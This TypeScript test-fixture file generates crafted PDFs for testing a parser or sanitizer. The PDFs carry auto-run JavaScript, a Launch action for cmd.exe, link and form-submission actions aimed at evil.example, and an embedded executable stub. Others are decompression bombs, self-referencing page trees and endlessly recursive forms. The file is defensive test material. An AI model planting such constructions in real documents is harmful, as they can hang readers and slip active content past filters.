import { deflateSync } from 'node:zlib'

/**
 * PDF files that somebody crafted to hold us up or to carry something along. Like all test files they are made anew
 * each time.
 */

const ascii = (text: string): Buffer => Buffer.from(text, 'latin1')

/** Objects by number; each value is all bytes between `obj` and `endobj`. */
type Objects = Record<number, string | Buffer>

const objectsOf = (objects: Objects, from: number): { bytes: Buffer; places: [number, number][] } => {
  const parts: Buffer[] = []
  const places: [number, number][] = []
  let at = from
  for (const [number, body] of Object.entries(objects)) {
    const part = Buffer.concat([ascii(`${number} 0 obj\n`), Buffer.from(body as string, 'latin1'), ascii('\nendobj\n')])
    places.push([Number(number), at])
    parts.push(part)
    at += part.length
  }
  return { bytes: Buffer.concat(parts), places }
}

const tableOf = (places: readonly [number, number][]): string =>
  places.map(([number, at]) => `${number} 1\n${String(at).padStart(10, '0')} 00000 n \n`).join('')

/** A whole file with a correct table of objects. `trailer` adds more keys, or another /Prev. */
export const whole = (objects: Objects, trailer = ''): Buffer => {
  const head = ascii('%PDF-1.7\n')
  const { bytes, places } = objectsOf(objects, head.length)
  const end = `xref\n${tableOf(places)}trailer\n<< /Root 1 0 R /Size 200 ${trailer} >>\nstartxref\n${head.length + bytes.length}\n%%EOF\n`
  return Buffer.concat([head, bytes, ascii(end)])
}

/** The same file, changed in the way of programs that only add at the end. */
const updated = (before: Buffer, objects: Objects, trailer = ''): Buffer => {
  const { bytes, places } = objectsOf(objects, before.length)
  const previous = /startxref\n(\d+)\n%%EOF\n$/.exec(before.toString('latin1'))?.[1] ?? '0'
  const end = `xref\n${tableOf(places)}trailer\n<< /Root 1 0 R /Size 200 /Prev ${previous} ${trailer} >>\nstartxref\n${before.length + bytes.length}\n%%EOF\n`
  return Buffer.concat([before, bytes, ascii(end)])
}

export const stream = (content: Buffer | string, keys = ''): Buffer => {
  const bytes = Buffer.from(content as string, 'latin1')
  return Buffer.concat([ascii(`<< ${keys} /Length ${bytes.length} >>\nstream\n`), bytes, ascii('\nendstream')])
}

/** One page with a line of text, and what a test adds to it. */
export const page = (
  more: { catalog?: string; pageKeys?: string; content?: string | Buffer; objects?: Objects } = {},
): Objects => ({
  1: `<< /Type /Catalog /Pages 2 0 R ${more.catalog ?? ''} >>`,
  2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> ${more.pageKeys ?? ''} >>`,
  4: Buffer.isBuffer(more.content)
    ? more.content
    : stream(more.content ?? 'BT /F 18 Tf 40 100 Td (EUR 7.00 paid) Tj ET'),
  5: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ...more.objects,
})

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

/**
 * An object stream as real programs write it: each row is stored as its difference to the row above and then packed.
 */
const objectStream = (entries: [number, string][], columns = 8): Buffer => {
  let at = 0
  const index = entries.map(([number, body]) => {
    const place = `${number} ${at}`
    at += body.length + 1
    return place
  })
  const first = `${index.join(' ')} `
  const plain = ascii(`${first}${entries.map(([, body]) => body).join(' ')} `)
  const rows = Math.ceil(plain.length / columns)
  const told = Buffer.alloc(rows * (columns + 1))
  for (let row = 0; row < rows; row++) {
    told[row * (columns + 1)] = 2
    for (let column = 0; column < columns; column++) {
      const here = plain[row * columns + column] ?? 0x20
      const above = row === 0 ? 0 : (plain[(row - 1) * columns + column] ?? 0x20)
      told[row * (columns + 1) + 1 + column] = (here - above + 256) & 255
    }
  }
  return stream(
    deflateSync(told),
    `/Type /ObjStm /N ${entries.length} /First ${first.length} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns ${columns} >>`,
  )
}

/** Cross references as a stream (PDF 1.5); only these can point into object streams. */
const withObjectStream = (plain: Objects, packed: [number, string][]): Buffer => {
  const head = ascii('%PDF-1.7\n')
  const { bytes, places } = objectsOf({ ...plain, 50: objectStream(packed) }, head.length)
  const rows = new Map<number, number[]>(
    places.map(([number, at]) => [number, [1, at >> 16, (at >> 8) & 255, at & 255, 0]]),
  )
  for (const [index, [number]] of packed.entries()) rows.set(number, [2, 0, 0, 50, index])
  const at = head.length + bytes.length
  rows.set(60, [1, at >> 16, (at >> 8) & 255, at & 255, 0])
  const numbers = [...rows.keys()].sort((a, b) => a - b)
  const table = Buffer.from(numbers.flatMap((number) => rows.get(number) ?? []))
  const references = stream(
    deflateSync(table),
    `/Type /XRef /Size 61 /W [1 3 1] /Index [${numbers.map((number) => `${number} 1`).join(' ')}] /Root 1 0 R /Filter /FlateDecode`,
  )
  return Buffer.concat([head, bytes, ascii('60 0 obj\n'), references, ascii(`\nendobj\nstartxref\n${at}\n%%EOF\n`)])
}

const deflatedTimes = (bytes: Buffer, times: number): Buffer =>
  times === 0 ? bytes : deflatedTimes(deflateSync(bytes, { level: 9 }), times - 1)
const flates = (times: number): string => `/Filter [${'/FlateDecode '.repeat(times)}]`

/** A colour that is computed for each dot of the page, again and again: minutes of work in a few kilobytes. */
export const minutesOfWork = (times = 100): Buffer =>
  whole(
    page({
      content: stream(deflatedTimes(Buffer.alloc(times * 6, '/S sh '), 1), flates(1)),
      pageKeys: '/MediaBox [0 0 900 900] /Resources << /Shading << /S 9 0 R >> >>',
      objects: {
        9: '<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 900 0 900] /Function 10 0 R >>',
        10: stream(
          `{ ${'sin exch cos exch '.repeat(20)} 2 copy add }`,
          '/FunctionType 4 /Domain [0 900 0 900] /Range [0 1 0 1 0 1]',
        ),
      },
    }),
  )

/** Each form draws the form below it ten times, so ten levels make ten thousand million drawings. */
const withoutEnd = (levels = 10): Buffer => {
  const form = (below: number) =>
    stream(
      below === 0 ? '0 0 9 9 re f' : '/X Do '.repeat(10),
      `/Type /XObject /Subtype /Form /BBox [0 0 300 200] ${below === 0 ? '' : `/Resources << /XObject << /X ${100 + below - 1} 0 R >> >>`}`,
    )
  const forms = Object.fromEntries(Array.from({ length: levels }, (_, level) => [100 + level, form(level)]))
  return whole(
    page({
      content: '/X Do',
      pageKeys: `/Resources << /XObject << /X ${100 + levels - 1} 0 R >> >>`,
      objects: forms,
    }),
  )
}

/** A picture with `edge` × `edge` dots in a small file. */
const hugePicture = (edge: number): Buffer =>
  whole(
    page({
      content: '300 0 0 200 0 0 cm /I Do',
      pageKeys: '/Resources << /XObject << /I 9 0 R >> >>',
      objects: {
        9: stream(
          deflatedTimes(Buffer.alloc(20_000_000), 2),
          `/Type /XObject /Subtype /Image /Width ${edge} /Height ${edge} /ColorSpace /DeviceRGB /BitsPerComponent 8 ${flates(2)}`,
        ),
      },
    }),
  )

export type Crafted = { what: string; file: Buffer }
const mega = 1024 * 1024

/** Each of these files carries something that must not be in what is kept. Every reader can open them. */
export const loaded = (): Crafted[] => [
  { what: 'a script at opening', file: whole(page({ catalog: `/OpenAction ${script}` })) },
  {
    what: 'a script spelled with numbers',
    file: whole(page({ catalog: '/#4fpenAction << /S /J#61vaScript /J#53 (x) >>' })),
  },
  {
    what: 'a script in an object stream with a predictor',
    file: withObjectStream(page({ catalog: '/OpenAction 20 0 R' }), [
      [20, script],
      [21, '<< /JS (also) >>'],
    ]),
  },
  {
    what: 'a script behind a comment in a dictionary',
    file: whole(page({ catalog: `/OpenAction % >> endobj stream\n<< /S % /Nothing\n/JavaScript /JS (x) >>` })),
  },
  {
    what: 'a script behind strings that look like an end',
    file: whole(page({ catalog: `/Lang (>> endobj \\) stream\n) /OpenAction << /S /JavaScript /JS (endstream) >>` })),
  },
  {
    what: 'a script in an update at the end',
    file: updated(whole(page()), { 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>` }),
  },
  {
    what: 'a script that an update took away again',
    file: updated(whole(page({ catalog: `/OpenAction ${script}` })), { 1: '<< /Type /Catalog /Pages 2 0 R >>' }),
  },
  { what: 'a script when a page is shown', file: whole(page({ pageKeys: `/AA << /O ${script} >>` })) },
  { what: 'named scripts', file: whole(page({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` })) },
  { what: 'a program that is started', file: whole(page({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })) },
  {
    what: 'a link on the page',
    file: whole(
      page({
        pageKeys:
          '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (https://evil.example) >> >>]',
      }),
    ),
  },
  {
    what: 'a file within',
    file: whole(
      page({
        catalog: '/Names << /EmbeddedFiles << /Names [(x) << /Type /Filespec /F (x.exe) /EF << /F 9 0 R >> >>] >> >>',
        objects: { 9: stream('MZ', '/Type /EmbeddedFile') },
      }),
    ),
  },
  {
    what: 'a form that sends itself',
    file: whole(
      page({
        catalog: '/AcroForm << /Fields [9 0 R] >>',
        pageKeys: '/Annots [9 0 R]',
        objects: {
          9: '<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 300 200] /A << /S /SubmitForm /F (https://evil.example) >> >>',
        },
      }),
    ),
  },
  {
    what: 'an XFA form',
    file: whole(page({ catalog: '/AcroForm << /Fields [] /XFA 9 0 R >>', objects: { 9: stream('<xdp:xdp/>') } })),
  },
  {
    what: 'a film',
    file: whole(page({ pageKeys: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]' })),
  },
]

/** Little that unpacks to much. To pack it costs seconds. */
const packed = (): Crafted[] => [
  {
    what: 'text packed again and again',
    file: whole(page({ content: stream(deflatedTimes(Buffer.alloc(100 * mega, ' '), 3), flates(3)) })),
  },
  {
    what: 'drawing packed again and again',
    file: whole(page({ content: stream(deflatedTimes(Buffer.alloc(100 * mega, 'q 1 0 0 1 0 0 cm '), 3), flates(3)) })),
  },
  {
    what: 'a packed object stream of 100 MB',
    file: whole({
      ...page(),
      50: stream(deflatedTimes(Buffer.alloc(100 * mega, ' '), 2), `/Type /ObjStm /N 1 /First 4 ${flates(2)}`),
    }),
  },
]

/** Each makes a reader work without end, or stumble. Whatever becomes of them, it is no fault of ours. */
export const exhausting = (): Crafted[] => [...quicklyMade(), ...packed()]

/** Those of them that are made in no time. */
export const quicklyMade = (): Crafted[] => [
  {
    what: '10 MB of names',
    file: Buffer.concat([ascii('%PDF-1.7\n'), Buffer.alloc(10 * mega - 100, '/a'), ascii('\n%%EOF\n')]),
  },
  {
    what: 'a million counts',
    file: Buffer.concat([ascii('%PDF-1.7\n'), Buffer.alloc(9 * mega, '/Count 1 '), ascii('\n%%EOF\n')]),
  },
  {
    what: '10 MB of openings',
    file: Buffer.concat([ascii('%PDF-1.7\n'), Buffer.alloc(10 * mega - 100, '<<'), ascii('\n%%EOF\n')]),
  },
  {
    what: '10 MB of lists in lists',
    file: Buffer.concat([ascii('%PDF-1.7\n1 0 obj\n'), Buffer.alloc(10 * mega - 100, '['), ascii('\n%%EOF\n')]),
  },
  {
    what: '10 MB of objects',
    file: Buffer.concat([ascii('%PDF-1.7\n'), Buffer.alloc(10 * mega - 100, '1 0 obj\n<<>>\n'), ascii('\n%%EOF\n')]),
  },
  {
    what: '10 MB of cross references',
    file: Buffer.concat([
      ascii('%PDF-1.7\nxref\n'),
      Buffer.alloc(10 * mega - 100, '0 1\n'),
      ascii('\nstartxref\n9\n%%EOF\n'),
    ]),
  },
  { what: 'drawings without end', file: withoutEnd() },
  { what: 'a colour that takes minutes', file: minutesOfWork() },
  { what: 'a table that names itself as the one before', file: updated(whole(page()), {}, '/Prev 9 /Prev 9') },
  {
    what: 'a table before the table that is the table',
    file: Buffer.from(
      whole(page(), '/Prev 00000')
        .toString('latin1')
        .replace(
          /\/Prev 00000([\s\S]*startxref\n)(\d+)/,
          (_all, rest: string, at: string) => `/Prev ${at.padStart(5, '0')}${rest}${at}`,
        ),
      'latin1',
    ),
  },
  {
    what: 'pages whose child is their parent',
    file: whole({ ...page(), 2: '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>' }),
  },
  {
    what: 'pages that are each other’s child',
    file: whole({
      ...page(),
      2: '<< /Type /Pages /Kids [6 0 R] /Count 9 >>',
      6: '<< /Type /Pages /Kids [2 0 R] /Count 9 >>',
    }),
  },
  {
    what: 'pages below pages, 20,000 deep',
    file: whole({
      ...page(),
      2: '<< /Type /Pages /Kids [1000 0 R] /Count 1 >>',
      ...Object.fromEntries(
        Array.from({ length: 20_000 }, (_, n) => [
          1_000 + n,
          `<< /Type /Pages /Kids [${n === 19_999 ? 3 : 1_001 + n} 0 R] /Count 1 >>`,
        ]),
      ),
    }),
  },
  {
    what: 'a thousand million pages',
    file: whole({ ...page(), 2: '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>' }),
  },
  { what: 'fewer than no pages', file: whole({ ...page(), 2: '<< /Type /Pages /Kids [3 0 R] /Count -7 >>' }) },
  {
    what: '10,000 pages',
    file: whole({ ...page(), 2: `<< /Type /Pages /Kids [${'3 0 R '.repeat(10_000)}] /Count 10000 >>` }),
  },
  { what: 'a page of no size', file: whole(page({ pageKeys: '/MediaBox [0 0 0 0]' })) },
  {
    what: 'a page as large as a country',
    file: whole(page({ pageKeys: '/MediaBox [-9e9 -9e9 9e9 9e9] /UserUnit 1e9' })),
  },
  { what: 'a page as long as it is thin', file: whole(page({ pageKeys: '/MediaBox [0 0 0.001 14400]' })) },
  { what: 'a thousand filters', file: whole(page({ content: stream('x', flates(1_000)) })) },
  { what: 'a picture of 3,600 million dots', file: hugePicture(60_000) },
  {
    what: 'a stream that says it is longer than the file',
    file: whole(page({ content: Buffer.from('<< /Length 999999999 >>\nstream\nBT ET\nendstream') })),
  },
  {
    what: 'a stream whose length is itself',
    file: whole(page({ content: Buffer.from('<< /Length 4 0 R >>\nstream\nBT ET\nendstream') })),
  },
  { what: 'content that is its own content', file: whole(page({ content: Buffer.from('[4 0 R 4 0 R]') })) },
  {
    what: 'a form that draws itself',
    file: whole(
      page({
        content: '/X Do',
        pageKeys: '/Resources << /XObject << /X 9 0 R >> >>',
        objects: {
          9: stream(
            '/X Do /X Do',
            '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 9 0 R >> >>',
          ),
        },
      }),
    ),
  },
  { what: '200,000 opened states', file: whole(page({ content: 'q '.repeat(200_000) })) },
  { what: 'half of a file', file: whole(page()).subarray(0, 300) },
  { what: 'a header and nothing', file: ascii('%PDF-1.7\n%%EOF\n') },
]
